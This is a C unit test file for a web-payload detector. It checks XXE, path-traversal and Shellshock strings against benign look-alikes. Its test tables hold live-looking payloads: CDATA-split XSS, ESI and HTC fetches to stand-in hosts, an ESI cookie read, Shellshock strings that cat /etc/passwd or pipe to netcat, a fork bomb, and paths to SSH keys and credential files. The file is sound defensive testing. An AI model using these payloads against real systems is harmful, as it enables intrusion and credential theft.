/* test_payload_rtt.c - issue 20, red team round of helper t (traversal,
 * XXE, Shellshock): constructs its fresh tables found missed, one row per
 * construct, written here from the construct. Every value is judged as a
 * query parameter value (payload_scan) and as a form body
 * "a=1&q=<percent-encoded value>" (payload_scan_query): an attack must draw
 * its own kind in both, a benign value nothing in either. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define X PAYLOAD_XXE
#define T PAYLOAD_TRAVERSAL
#define N PAYLOAD_NONE

/* CDATA sections that spell markup a filter on the raw document never saw:
 * a section holding only a delimiter ("<![CDATA[<]]>SCRIPT"), or one that
 * ends inside an open tag and is continued by the next section
 * ("<IMG SRC=\"javas]]><![CDATA[cript:"); an XML parser joins them into
 * the markup. CDATA that carries text, even with '<', is a document's. */
static void test_xml_cdata_split(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<foo><![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('x');<![CDATA[<]]>/SCRIPT<![CDATA[>]]></foo>", X},
		{"<![CDATA[<]]>img src=x onerror=alert(1)<![CDATA[>]]>", X},
		{"<r><![CDATA[</]]>title<![CDATA[>]]></r>", X},
		{"<C><![CDATA[<IMG SRC=\"javas]]><![CDATA[cript:alert('XSS');\">]]></C>", X},
		{"<![CDATA[<svg onload=al]]><![CDATA[ert(1)>]]>", X},
		{"<description><![CDATA[<p>Hello <b>world</b></p>]]></description>", N},
		{"<x><![CDATA[a]]><![CDATA[b]]></x>", N},
		{"<code><![CDATA[if (a < b && c > d) { return; }]]></code>", N},
		{"<![CDATA[<br>]]>", N},
		{"<![CDATA[]]>", N},
		{"<x><![CDATA[a]]]]><![CDATA[>b]]></x>", N},
		/* a serializer's "]]>" inside CDATA after a '<' comparison */
		{"<code><![CDATA[if (i<len) x = \"]]]]><![CDATA[>\";]]></code>", N},
		{"<text><![CDATA[a<b]]]]><![CDATA[>c]]></text>", N},
		{"In XML, CDATA sections look like <![CDATA[ ... ]]> and end at the first ]]>.", N},
	};
	rt_run("xml-cdata", t, sizeof(t) / sizeof(t[0]));
}

/* markup a server-side processor acts on that payload lists file beside
 * XXE: an IE behaviour imported by a processing instruction, an Edge Side
 * Include fetching a URL or reading a variable, an Office relationship
 * pointing at a local file, and a DTD's parameter-entity references one
 * after another as a whole value ("%dtd;%send;") */
static void test_xml_processed_markup(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"http://evil.example/xss.htc\"><xss:xss>XSS</xss:xss></HTML>", X},
		{"<?import namespace=\"t\" implementation=\"#default#time2\">", X},
		{"<esi:include src=\"http://oob.example/\"/>", X},
		{"<esi:include src=\"/admin/secret\"/>", N}, /* same origin: the site's own fragment (helper e, session 14) */
		{"<esi:vars>$(HTTP_COOKIE{'session'})</esi:vars>", X},
		{"x<esi:inline name=\"/x\" fetchable=\"yes\"/>", X},
		{"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/>", X},
		{"<Relationship Id=\"r\" Type=\"x\" Target=\"\\\\oob.example\\s\\a.dotm\" TargetMode=\"External\"/>", X},
		{"%dtd;%send;", X},
		{"%remote; %init; %trick;", X},
		{"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://example.com/\" TargetMode=\"External\"/>", N},
		{"<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"media/image1.png\"/>", N},
		{"<esi>Esi Johnson</esi>", N},
		{"The ESI spec defines <esi:include src=\"...\"/> for fragment assembly.", N},
		{"<?import namespace=\"foo\"?>", N},
		{"%s;%d;", N},
		{"%PATH%;%JAVA_HOME%\\bin;", N},
	};
	rt_run("xml-processed", t, sizeof(t) / sizeof(t[0]));
}

/* a wildcard pattern aimed at a system file: the shell's (and glob://'s)
 * '?' and '*', Windows' '<' '>' in a drive path; a listing's glob
 * ("/var/log/ *.log" aside, "/etc/" then a star, "/api/ * /users") is not */
static void test_trav_glob(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"/e*c/pas*d", T},
		{"/??" "?/??ss??", T}, /* split: no trigraph */
		{"/e?" "?/sh?d?w", T},
		{"/pr*c/s*lf/environ", T},
		{"c:\\boot.in>", T},
		{"c:/windows/win.i<<", T},
		{"C:\\WIND<\\win.ini", T},
		{"/etc/*", N},
		{"/api/*/users/*", N},
		{"/*/*", N},
		{"/pa??word-reset", N},
		{"/products/?/?page=2", N},
		{"/downloads/*.zip", N},
		{"c:\\temp\\*.tmp", N},
	};
	rt_run("trav-glob", t, sizeof(t) / sizeof(t[0]));
}

/* bash imports "() {" at a value's start as a function and runs what
 * follows the closing brace after a separator, a redirection, or (after a
 * one-line no-op body) a line break. A body alone runs nothing, and
 * "() { return; }", "() { x; }", "() { $(this).hide(); }" are JavaScript
 * method bodies that code-sharing sites post; only bash's own no-op probe
 * (':' starts no JavaScript statement), a nested definition, and the fork
 * bomb's "() { :|:" cut open count alone. A raw query's "() { _; } && id"
 * cut at '&' is left: a client encodes '&' (and the spaces) */
static void test_shellshock_cut(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"() { :; }", PAYLOAD_SHELLSHOCK},
		{"() { :;};", PAYLOAD_SHELLSHOCK},
		{"() { :|:", PAYLOAD_SHELLSHOCK},
		{"()  {  :|:", PAYLOAD_SHELLSHOCK},
		{"() { :|:& }\n/bin/id", PAYLOAD_SHELLSHOCK},
		{"() { true; }\nid", PAYLOAD_SHELLSHOCK},
		{"() { 0; }\necho;/bin/ls -la /", PAYLOAD_SHELLSHOCK},
		{"() { 0; }; id", PAYLOAD_SHELLSHOCK},
		{"() { ignored; }; echo; /bin/cat /etc/passwd", PAYLOAD_SHELLSHOCK},
		{"() { _; } >_[$($())] { id; }", PAYLOAD_SHELLSHOCK},
		{"() { x; } | /bin/nc x.example 4444", PAYLOAD_SHELLSHOCK},
		{"() { return; }; /bin/id", PAYLOAD_SHELLSHOCK},
		{"() { x() { _; }; x() { _; } <<a; }", PAYLOAD_SHELLSHOCK},
		{"() { return; }", N},
		{"() { debugger; }", N},
		{"() { break; }", N},
		{"() { continue; }", N},
		{"() { return 1; }", N},
		{"() { _; }", N},
		{"() { x; }", N},
		{"() { 0;}", N},
		{"() { return; };", N},
		{"() { return this.x; };  ", N},
		{"() { $(this).hide(); }", N},
		{"() { return a > b ? a : b; }", N},
		{"() { return x << 2; }", N},
		{"() {\n  return 1;\n}\n", N},
		{"() {\n  return 1;\n}\nfoo();", N},
		{"() {\n  this.x = 1;\n}\n\nget y() {\n  return 2;\n}", N},
		{"() { return this.x; }", N},
		{"() => { go(); }", N},
		{"(a | b) { x }", N},
	};
	rt_run("shellshock-cut", t, sizeof(t) / sizeof(t[0]));
}

/* absolute paths to a user's hidden files and to devices a read blocks
 * on or that hand over a descriptor; a home's project files and an API's
 * "/dev/" section are not */
static void test_trav_home_dev(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"/home/ubuntu/.npmrc", T},
		{"/home/admin/.netrc", T},
		{"/home/git/.gitconfig", T},
		{"/Users/admin/.gnupg/pubring.kbx", T},
		{"/dev/fd/0", T},
		{"/dev/stdin", T},
		{"/dev/tcp/10.0.0.1/4444", T},
		{"/home/u/.ssh/id_ed25519", T},
		{"/dev/urandom", N},
		{"/dev/shm/pgsql.123", N},
		{"/home/ubuntu/.local/lib/python3.10/site-packages/requests/api.py", N},
		{"/home/runner/.cache/pip/wheels/ab/cd/x.whl", N},
		{"/home/alice/projects/app/src/main.c", N},
		{"/users/42/profile", N},
		{"/dev/api/users", N},
		{"/users/alice/.well-known/webfinger", N},
		{"/dev/tools", N},
		{"/dev/random-quotes", N},
	};
	rt_run("trav-home-dev", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_xml_cdata_split),
		cmocka_unit_test(test_xml_processed_markup),
		cmocka_unit_test(test_trav_glob),
		cmocka_unit_test(test_shellshock_cut),
		cmocka_unit_test(test_trav_home_dev),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
